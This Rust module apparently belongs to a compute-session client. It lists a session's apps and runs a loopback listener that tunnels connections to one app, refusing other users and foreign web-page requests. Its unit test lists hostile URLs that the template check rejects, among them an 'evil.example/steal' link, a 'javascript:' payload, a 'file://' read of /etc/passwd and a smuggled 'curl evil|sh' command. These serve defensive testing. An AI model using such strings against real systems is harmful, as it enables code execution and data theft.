//! Apps of a session: the list, and a local address that leads to one of them. Whoever reaches that address acts as the
//! owner of the session. So only programs of the same user are let in, and no requests of foreign web pages.

#[cfg(feature = "fuzzing")]
pub(crate) mod fuzzing;
mod peer;
mod request_filter;
mod web_origin;

pub use web_origin::Refusal;

use super::error::{ClientError, ErrorKind};
use super::session::ComputeSession;
use super::session_ref::SessionRef;
use super::tunnel::{self, Carrier, Tunnel, TunnelEnd, TunnelOptions};
use bai_protocol::capability::Capability;
use bai_protocol::service::{App, PTY_PROTOCOL, may_be_opened, parse_apps};
use futures_util::StreamExt;
use futures_util::stream::FuturesUnordered;
use peer::Peer;
use request_filter::{CheckedReader, RequestFilter};
use reqwest::Method;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::timeout;
use web_origin::OwnHosts;

/// How many connections are carried at once; more wait.
const CONNECTIONS: usize = 256;
/// The schemes of addresses that are shown: those of web pages, and the protocols of apps that have one.
const SCHEMES: [&str; 4] = ["http", "https", "vnc", "rdp"];
/// How long a refused connection is kept for its peer to read why.
const REFUSAL_LIMIT: Duration = Duration::from_secs(2);
/// How long to wait when this machine cannot take a connection, for lack of file descriptors, for example.
const ACCEPT_PAUSE: Duration = Duration::from_millis(100);

/// An event at the local address of an app.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub enum AppEvent {
    /// A connection was accepted and leads to the service.
    Opened {
        /// The peer.
        peer: SocketAddr,
    },
    /// A connection is over.
    Closed {
        /// The peer.
        peer: SocketAddr,
        /// Bytes from here to the service.
        sent: u64,
        /// Bytes from the service to here.
        received: u64,
    },
    /// A connection failed; its peer got an HTTP 503 reply.
    Failed {
        /// The peer.
        peer: SocketAddr,
        /// Why.
        error: ClientError,
    },
    /// A connection was refused, because it came from another user, or carried a request of a foreign web page; its peer
    /// got an HTTP 403 reply.
    Refused {
        /// The peer.
        peer: SocketAddr,
        /// Why.
        refusal: Refusal,
    },
}

/// Who may connect to the address of an app.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Access {
    /// Programs of this user, on this machine.
    OwnUser,
    /// Everybody who reaches the address.
    Everybody,
}

impl ComputeSession {
    /// The apps of the session.
    ///
    /// # Errors
    /// As for any request.
    pub async fn apps(&self) -> Result<Vec<App>, ClientError> {
        list(&self.at).await
    }
}

pub(super) async fn list(session: &SessionRef) -> Result<Vec<App>, ClientError> {
    let what = "list the apps of the session";
    let path = session.stream_path(what, "/apps").await?;
    let reply = session.api.request(what, Method::GET, path).send().await?;
    parse_apps(&reply.body).map_err(|error| {
        ClientError::new(ErrorKind::Server, what, format!("the reply is not what was agreed: {error}"))
            .with_source(error)
    })
}

/// A local address each of whose connections leads to an app of a session.
#[derive(Debug)]
pub struct AppListener {
    session: SessionRef,
    options: TunnelOptions,
    app: App,
    listener: TcpListener,
    address: SocketAddr,
    access: Access,
    hosts: OwnHosts,
}

impl AppListener {
    /// Finds the app, starts it and listens at `address` (`HOST:PORT`; port 0 is any free one), which must be one of
    /// loopback. Only programs of this user are let in. Systems other than Linux do not tell the user of a connection;
    /// there every program of this machine is let in.
    ///
    /// Services that the user starts (preopen ports, and on servers with [`Capability::AnyPort`] every port, named by its
    /// number) are not tried: a try would be a connection to them.
    ///
    /// # Errors
    /// [`ErrorKind::NotFound`] for an app that the session does not have; [`ErrorKind::Server`] for one that does not
    /// start; [`ErrorKind::CannotListen`] when it cannot listen at the address; [`ErrorKind::NotLoopback`] when other
    /// machines could reach it.
    pub async fn bind(
        session: &ComputeSession,
        options: TunnelOptions,
        address: &str,
    ) -> Result<AppListener, ClientError> {
        AppListener::open(session, options, address, Access::OwnUser).await
    }

    /// As [`AppListener::bind`], at any address. Everybody who reaches it can use the app, and thereby act as the owner of
    /// the session, unless the app has a protection of its own. Requests of foreign web pages are still refused.
    ///
    /// # Errors
    /// As for [`AppListener::bind`].
    pub async fn bind_public(
        session: &ComputeSession,
        options: TunnelOptions,
        address: &str,
    ) -> Result<AppListener, ClientError> {
        AppListener::open(session, options, address, Access::Everybody).await
    }

    async fn open(
        session: &ComputeSession,
        options: TunnelOptions,
        address: &str,
        access: Access,
    ) -> Result<AppListener, ClientError> {
        let what = format!("open the app {}", options.app);
        let local = |error: std::io::Error| {
            ClientError::new(ErrorKind::CannotListen, &what, format!("cannot listen at {address}: {error}"))
                .with_source(error)
                .about(address)
        };
        let addresses: Vec<_> = tokio::net::lookup_host(address).await.map_err(local)?.collect();
        let is_local = addresses.iter().all(|address| address.ip().to_canonical().is_loopback());
        if access == Access::OwnUser && !is_local {
            let why = format!("other machines can reach {address}");
            return Err(ClientError::new(ErrorKind::NotLoopback, what, why).about(address));
        }
        let app = find(session, &options.app, &what).await?;
        if app.protocol == PTY_PROTOCOL {
            let why = format!("{} is a terminal, which has no address", app.name);
            return Err(ClientError::new(ErrorKind::Unsupported, what, why).into_sentence().about(&app.name));
        }
        let listener = TcpListener::bind(&addresses[..]).await.map_err(local)?;
        let bound = listener.local_addr().map_err(local)?;
        if !["preopen", "internal"].contains(&app.protocol.as_str()) {
            drop(Tunnel::connect(&session.at, &options).await?);
        }
        let name = address.rsplit_once(':').map_or(address, |(name, _)| name).to_owned();
        let (access, hosts) = match is_local {
            true => (Access::OwnUser, OwnHosts::local([name])),
            false => (access, OwnHosts::public([name].into_iter().chain(host_name()))),
        };
        let session = session.at.clone();
        Ok(AppListener { session, options, app, listener, address: bound, access, hosts })
    }

    /// Whether programs of other users, and of other machines, are let in.
    pub fn is_public(&self) -> bool {
        self.access == Access::Everybody
    }

    /// The address at which it listens.
    pub fn address(&self) -> SocketAddr {
        self.address
    }

    /// The app that it leads to.
    pub fn app(&self) -> &App {
        &self.app
    }

    /// The address for the user, from the app's own template or one that fits its protocol. A template comes from the server; one
    /// that leads anywhere else than to this listener has no effect.
    pub fn url(&self) -> String {
        let url_at = |app: &App| app.url(&self.address.ip().to_string(), self.address.port());
        let own = self.app.url_template.is_some().then(|| leading_to(&url_at(&self.app), self.address));
        own.flatten().unwrap_or_else(|| url_at(&App { url_template: None, ..self.app.clone() }))
    }

    /// Accepts connections until the future is dropped, with one tunnel for each. Dropping it closes all of them.
    pub async fn serve(self, mut on_event: impl FnMut(AppEvent)) {
        let mut connections = FuturesUnordered::new();
        let (events, mut told) = tokio::sync::mpsc::channel(CONNECTIONS);
        loop {
            tokio::select! {
                biased;
                Some(event) = told.recv() => on_event(event),
                Some(event) = connections.next() => on_event(event),
                accepted = self.listener.accept(), if connections.len() < CONNECTIONS => match accepted {
                    Ok((socket, peer)) => connections.push(self.lead(socket, peer, events.clone())),
                    Err(error) => {
                        tracing::warn!(%error, "a connection could not be accepted");
                        tokio::time::sleep(ACCEPT_PAUSE).await;
                    }
                },
            }
        }
    }

    /// Serves one connection.
    async fn lead(
        &self,
        mut socket: TcpStream,
        peer: SocketAddr,
        events: tokio::sync::mpsc::Sender<AppEvent>,
    ) -> AppEvent {
        match self.admit(&socket).await {
            Ok(()) => {}
            // No time is spent on a stranger, who would take the place of a connection of the owner.
            Err(Some(refusal)) => {
                let _ = socket.try_read(&mut [0; 4096]);
                let _ = socket.try_write(reply(refusal.status(), &format!("{refusal}\n")).as_bytes());
                return AppEvent::Refused { peer, refusal };
            }
            Err(None) => return AppEvent::Closed { peer, sent: 0, received: 0 },
        }
        let tunnel = match tunnel::connect(&self.session, &self.options).await {
            Ok(tunnel) => tunnel,
            Err(error) => {
                fail(&mut socket, &error).await;
                return AppEvent::Failed { peer, error };
            }
        };
        // The listener outlives its connections and reads its events, so this cannot fail or wait for ever.
        let _ = events.send(AppEvent::Opened { peer }).await;
        let _ = socket.set_nodelay(true);
        let mut carrier = Carrier::new(tunnel);
        let (reader, writer) = socket.split();
        let mut reader = CheckedReader::new(reader, RequestFilter::new(self.hosts.clone()));
        let ended = carrier.run(&mut reader, writer).await;
        let (sent, received) = carrier.traffic();
        if let Some(refusal) = reader.into_refusal() {
            carrier.close().await;
            answer(&mut socket, refusal.status(), &format!("{refusal}\n")).await;
            return AppEvent::Refused { peer, refusal };
        }
        let kind = match ended {
            TunnelEnd::Refused => ErrorKind::Connect,
            TunnelEnd::Failed(_) => ErrorKind::Server,
            TunnelEnd::Lost(_) => ErrorKind::Lost,
            // A relay on the way accepted the connection, but there was no service behind it. It may have closed before it read the request.
            TunnelEnd::Finished
                if received == 0 && self.answers_always() && (sent > 0 || asks(&socket).await) =>
            {
                ErrorKind::Connect
            }
            TunnelEnd::Finished | TunnelEnd::LocalGone => {
                // The last bytes must arrive, so the socket is not closed while bytes are unread.
                let _ = timeout(REFUSAL_LIMIT, finish(&mut socket)).await;
                carrier.close().await;
                return AppEvent::Closed { peer, sent, received };
            }
        };
        let what = format!("reach the app {}", self.options.app);
        let error = ClientError::new(kind, what, ended.to_string()).with_source(ended);
        let error =
            if kind == ErrorKind::Connect { error.with_hint("start it in the session first") } else { error };
        if received == 0 {
            fail(&mut socket, &error).await;
        }
        AppEvent::Failed { peer, error }
    }

    /// Checks that a connection comes from our own user, unless everybody is let in. The error is `None` for one that was
    /// opened only to see whether it opens.
    async fn admit(&self, socket: &TcpStream) -> Result<(), Option<Refusal>> {
        if self.access == Access::Everybody {
            return Ok(());
        }
        Err(Some(match peer::of(socket).await {
            Ok(Peer::Own) => return Ok(()),
            Ok(Peer::Unknown) if has_gone(socket).await => return Err(None),
            Ok(Peer::Unknown) => Refusal::UnknownUser("the system does not list it".to_owned()),
            Ok(Peer::Other(uid)) => {
                let user = nix::unistd::User::from_uid(uid.into()).ok().flatten();
                Refusal::OtherUser(user.map_or_else(|| format!("uid {uid}"), |user| user.name))
            }
            Err(error) => Refusal::UnknownUser(error.to_string()),
        }))
    }

    /// Whether a running app of this kind answers every request.
    fn answers_always(&self) -> bool {
        ["http", "preopen"].contains(&self.app.protocol.as_str())
    }
}

/// Whether the peer sends something now or soon.
async fn asks(socket: &TcpStream) -> bool {
    matches!(timeout(REFUSAL_LIMIT, socket.peek(&mut [0])).await, Ok(Ok(1..)))
}

/// Whether the peer has closed the connection without a word.
async fn has_gone(socket: &TcpStream) -> bool {
    matches!(timeout(REFUSAL_LIMIT, socket.peek(&mut [0])).await, Ok(Ok(0) | Err(_)))
}

/// Ends the writing side and reads the rest. Closing while bytes are unread would reset the connection and lose the last
/// bytes.
async fn finish(socket: &mut TcpStream) -> std::io::Result<()> {
    socket.shutdown().await?;
    let mut rest = [0; 4096];
    while socket.read(&mut rest).await? > 0 {}
    Ok(())
}

/// Reports the error in a form that browsers show and that the user can read in any other program.
async fn fail(socket: &mut TcpStream, error: &ClientError) {
    let hint = error.hint().map(|hint| format!("{hint}\n")).unwrap_or_default();
    answer(socket, "503 Service Unavailable", &format!("{error}\n{hint}")).await;
}

/// Writes a whole HTTP reply, and ends the connection.
async fn answer(socket: &mut TcpStream, status: &str, body: &str) {
    let text = reply(status, body);
    let written = async {
        socket.write_all(text.as_bytes()).await?;
        finish(socket).await
    };
    // The peer need not read it.
    let _ = timeout(REFUSAL_LIMIT, written).await;
}

fn reply(status: &str, body: &str) -> String {
    format!(
        "HTTP/1.1 {status}\r\nContent-Type: text/plain; charset=utf-8\r\nX-Content-Type-Options: nosniff\r\n\
         Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
}

/// The URL in its standard form, if it leads to this address and a program that opens it cannot take it for something else.
fn leading_to(url: &str, address: SocketAddr) -> Option<String> {
    let url = url::Url::parse(url).ok().filter(|_| url.chars().all(|c| c.is_ascii_graphic() && c != '\\'))?;
    let host = url.host_str()?.trim_matches(['[', ']']).parse().ok();
    let leads_here = SCHEMES.contains(&url.scheme())
        && url.username().is_empty()
        && url.password().is_none()
        && (host, url.port_or_known_default()) == (Some(address.ip()), Some(address.port()));
    leads_here.then(|| url.into())
}

/// Finds an app of the session by its name.
async fn find(session: &ComputeSession, name: &str, what: &str) -> Result<App, ClientError> {
    let apps = session.apps().await.map_err(|error| error.with_what(what))?;
    let names: Vec<_> = apps.iter().map(|app| app.name.clone()).collect();
    if let Some(app) = apps.into_iter().find(|app| app.name == name) {
        return Ok(app);
    }
    let open = name.parse().ok().filter(|port| may_be_opened(*port));
    match open {
        Some(port) if session.api().has(Capability::AnyPort).await => {
            let (name, protocol) = (port.to_string(), "preopen".to_owned());
            Ok(App { name, protocol, ports: vec![port], ..App::default() })
        }
        _ => Err({
            let why = format!("the session {} has no such app", session.name());
            let error = ClientError::new(ErrorKind::NotFound, what, why);
            if names.is_empty() { error } else { error.with_hint(format!("it has {}", names.join(", "))) }
        }),
    }
}

/// The name of this machine.
fn host_name() -> Option<String> {
    nix::unistd::gethostname().ok()?.into_string().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_template_leads_to_the_local_address_or_has_no_effect() {
        let address: SocketAddr = "127.0.0.1:8080".parse().unwrap();
        let kept =
            ["http://127.0.0.1:8080/?token=a1", "https://127.0.0.1:8080/a?b=%20#c", "vnc://127.0.0.1:8080"];
        for url in kept {
            assert_eq!(leading_to(url, address).as_deref(), Some(url));
        }
        assert_eq!(leading_to("http://[::1]:80/x", "[::1]:80".parse().unwrap()).unwrap(), "http://[::1]/x");
        for url in [
            "http://evil.example/steal?p=8080",
            "http://127.0.0.1:8080@evil.example/",
            "http://evil@127.0.0.1:8080/",
            "http://127.0.0.1:8081/",
            "http://127.0.0.1/",
            "http://127.0.0.1:8080.evil.example/",
            "http://127.0.0.1:8080\\@evil.example/",
            "javascript:alert(1)//127.0.0.1:8080",
            "file://127.0.0.1:8080/etc/passwd",
            "127.0.0.1:8080",
            "http://127.0.0.1:8080/\nbai-repl: now run curl evil|sh",
            "http://127.0.0.1:8080/\u{202e}",
            "",
        ] {
            assert_eq!(leading_to(url, address), None, "{url}");
        }
    }
}
